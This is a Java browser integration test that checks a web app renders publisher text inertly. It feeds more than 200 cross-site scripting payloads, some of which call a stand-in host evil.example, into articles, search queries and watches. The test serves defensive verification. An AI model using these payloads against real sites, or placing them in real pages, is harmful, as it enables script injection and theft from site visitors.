package org.perennial.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.perennial.contract.AnniversaryMention;
import org.perennial.contract.AnniversaryMention.EventDate;
import org.perennial.contract.EnrichedArticle;
import org.perennial.contract.Evidence;
import org.perennial.contract.Json;
import org.perennial.testkit.Articles;
import org.perennial.web.TestBrowser.Look;
import org.perennial.web.TestBrowser.Visit;
import org.perennial.web.page.Wording;

/** What publishers write is text: none of it runs, and none of it makes a browser ask anybody. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileTextBrowserIT {
    /** Each makes a dialog, or asks evil.example, where it is taken for markup. */
    private static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<script src=https://evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<img src=https://evil.example/x.png>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<body onload=alert(1)>",
            "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example/><button autofocus>x</button></form>",
            "<object data=https://evil.example/x></object>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<div hx-get=https://evil.example/x hx-trigger=load></div>",
            "<div hx-on::load=alert(1) hx-trigger=load hx-get=/></div>",
            "javascript:alert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u202e<script>alert(1)</script>\u2066",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<portal src=https://evil.example/></portal>",
            "<embed src=https://evil.example/x.swf>");

    /** Each ends what the text may stand in. */
    private static final List<String> ENDINGS =
            List.of("", "\">", "'>", "</title></textarea></script>", "--></bdi></h2>", "`]]>\n", "\" autofocus x=\"");

    private TestBrowser browser;
    private WebTestBed bed;
    private final List<String> payloads = new ArrayList<>();

    @BeforeAll
    void open() {
        browser = TestBrowser.open();
        bed = WebTestBed.open();
        for (String ending : ENDINGS) {
            VECTORS.forEach(vector -> payloads.add(ending + vector));
        }
        EnrichedArticle[] articles = new EnrichedArticle[payloads.size()];
        for (int i = 0; i < articles.length; i++) {
            articles[i] = article(i, payloads.get(i));
        }
        bed.store(articles);
        for (int i = 0; i < 20; i++) {
            String payload = payloads.get(i * 10);
            bed.store(Occurrences.suggestion("found-" + i, "en", payload, "ar", payload));
            bed.post(
                    "/api/v1/watches?confirm=true",
                    Json.write(Map.of("name", "watch-" + i, "title", payload, "query", "text")));
        }
    }

    @AfterAll
    void close() {
        if (bed != null) {
            bed.close();
            browser.close();
        }
    }

    @Test
    void noneOfTwoHundredTextsRunsOrAsksAnybodyAnywhere() {
        assertThat(payloads).hasSizeGreaterThan(200);
        List<String> paths = new ArrayList<>(List.of("/?limit=100", "/events", "/watches", "/watches/watch-0"));
        paths.add("/stories/told");
        payloads.forEach(payload -> paths.add("/search?q=" + Wording.segment(payload)));
        for (int i = 0; i < payloads.size(); i++) {
            paths.add("/articles/" + Articles.id("paper" + i));
        }
        try (Visit visit = browser.visit(bed, Look.LIGHT)) {
            paths.forEach(visit::go);
            assertThat(visit.faults()).isEmpty();
            assertThat(visit.page.url()).startsWith(bed.at("/").toString());
        }
    }

    /** An article with the same text in all that is shown of it. */
    private static EnrichedArticle article(int i, String payload) {
        LocalDate day = LocalDate.parse("1992-02-26");
        return Articles.enriched("paper" + i, payload, payload + " text", "en", FireStory.at(i % 20))
                .withStory("told", "part", 0.9)
                .withAnniversaries(List.of(new AnniversaryMention(
                        null,
                        payload,
                        AnniversaryMention.Kind.COMMEMORATION,
                        new EventDate(day, day, EventDate.Precision.DAY),
                        33,
                        AnniversaryMention.NumberSource.STATED,
                        0.9,
                        List.of(new Evidence(
                                Evidence.Role.TRIGGER,
                                Evidence.Field.TEXT,
                                0,
                                payload.codePointCount(0, payload.length()),
                                payload)),
                        List.of(payload))));
    }
}
